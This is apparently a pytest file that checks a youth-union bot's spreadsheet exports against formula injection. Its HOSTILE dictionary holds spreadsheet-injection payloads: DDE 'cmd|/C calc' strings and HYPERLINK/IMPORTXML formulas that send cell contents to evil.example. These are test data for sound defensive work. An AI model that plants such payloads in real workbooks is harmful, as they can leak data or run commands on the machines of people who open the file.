"""No answer becomes a live formula in the district's workbook, and no stored entry breaks it.

Every export (/xuat in a chat, `chidoan-bot export`) is opened with openpyxl: no cell is a
formula, text that a spreadsheet would run starts with OWASP's apostrophe, the figures we
computed are still numbers, and control characters stored before text was cleaned at the
engine's edge are dropped instead of failing the whole export with a name in the traceback.
"""

from __future__ import annotations

import asyncio
import io
import logging
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.app.cli import main
from bot.logsafety import install as install_log_safety
from bot.spreadsheet import FORMULA_STARTS, NEUTRALISER, safe_cell
from storage.models import Branch, Evidence, MonthlyReport, Role, YouthCase, YouthCaseEvent
from tests.support.harness import Harness, local
from tests.support.ops_seed import seed
from tests.support.tally import TALLY
from tests.support.workbook import HEADER_ROW
from tests.youth_support import add_person

HOSTILE = {
    "projects": ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0"],
    "mood": "-2+3+cmd|' /C calc'!A0",
    "difficulties": "@SUM(1+1)*cmd|' /C calc'!A0",
    "review_comment": "=1+1",
    "caption": "\t=cmd|'/c calc'!A1",
    "branch": '＝HYPERLINK("http://evil.example")',
    "situation": "\r=2+5",
    "help_what": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
}
NAME_WITH_CONTROLS = "Trần\x01 Văn\x1b[31m Bình\x7f"


async def _poison(harness: Harness) -> None:
    TALLY.tried(len(HOSTILE))
    """Hostile text in every free-text place a workbook shows, as if typed long ago."""
    async with harness.uow() as uow:
        report = await uow.session.scalar(
            select(MonthlyReport).where(MonthlyReport.status == "submitted").limit(1)
        )
        assert report is not None
        report.answers = {
            **report.answers,
            "projects": HOSTILE["projects"],
            "mood": HOSTILE["mood"],
            "difficulties": HOSTILE["difficulties"],
        }
        report.review_comment = HOSTILE["review_comment"]
        branch = await uow.session.get(Branch, report.branch_id)
        assert branch is not None
        branch.name = HOSTILE["branch"]
        for evidence in await uow.session.scalars(select(Evidence)):
            evidence.caption = HOSTILE["caption"]
        for case in await uow.session.scalars(select(YouthCase)):
            case.situation = HOSTILE["situation"]
            case.full_name = NAME_WITH_CONTROLS
            uow.session.add(
                YouthCaseEvent(
                    case_id=case.id,
                    kind="help_given",
                    detail={"on": "2026-11-12", "what": HOSTILE["help_what"]},
                    at=local(2026, 11, 12, 9, 0),
                )
            )


def assert_inert(data: bytes) -> list[str]:
    """No formula anywhere; returns every text cell (for the caller's own checks)."""
    book = load_workbook(io.BytesIO(data))
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                    texts.append(cell.value)
    return texts


def assert_neutralised(texts: list[str]) -> None:
    projects = "; ".join(HOSTILE["projects"])
    for hostile in [projects, *(v for v in HOSTILE.values() if isinstance(v, str))]:
        # XML reads a carriage return back as a newline.
        wanted = NEUTRALISER + hostile.replace("\r", "\n")
        assert wanted in texts, f"{hostile!r} not kept as inert text"
    names = [text for text in texts if text.startswith("Trần")]
    assert names and all("\x01" not in n and "\x1b" not in n for n in names), names


async def test_xuat_writes_hostile_answers_as_inert_text(
    harness: Harness, caplog: pytest.LogCaptureFixture
) -> None:
    install_log_safety()  # as every process does at start-up
    await seed(harness)
    await _poison(harness)
    leader = await harness.registered("lead1", Role.LEADER, "PH")
    await leader.say("/xuat 2026-11")
    with caplog.at_level(logging.DEBUG):
        await leader.press("🔒 Kèm danh sách có họ tên")
    document = next(r.document for r in leader.last if r.document is not None)
    texts = assert_inert(document.data)
    assert_neutralised(texts)
    assert "Bình" not in caplog.text
    book = load_workbook(io.BytesIO(document.data))
    rows = book.worksheets[0].iter_rows(min_row=HEADER_ROW + 1, values_only=True)
    members = [row[9] for row in rows]
    assert 30 in members, "figures we computed stay numbers"
    assert all(isinstance(m, int) for m in members if m is not None)


async def test_cli_export_writes_hostile_answers_as_inert_text(
    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await seed(harness)
    await _poison(harness)
    monkeypatch.setenv("CHIDOAN_DATABASE__URL", harness.url)
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "thang-11.xlsx"
    args = ["export", "--period", "2026-11", "--out", str(out), "--with-youth"]
    assert await asyncio.to_thread(main, args) == 0
    assert_neutralised(assert_inert(out.read_bytes()))


async def test_a_name_typed_as_a_formula_stays_text(harness: Harness) -> None:
    await seed(harness)
    secretary = await harness.registered("u1")
    formula = '=HYPERLINK("http://evil.example","Xem")'
    await add_person(secretary, name=formula)
    leader = await harness.registered("lead1", Role.LEADER, "PH")
    await leader.say("/xuat 2026-11")
    await leader.press("🔒 Kèm danh sách có họ tên")
    document = next(r.document for r in leader.last if r.document is not None)
    assert NEUTRALISER + formula in assert_inert(document.data)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_values_that_are_not_text_are_left_alone() -> None:
    assert [safe_cell(v) for v in (-5, 2.5, None, True)] == [-5, 2.5, None, True]
    assert safe_cell("Công trình 1") == "Công trình 1"
    assert safe_cell("a\x00b\x1bc\ud800d") == "abcd"
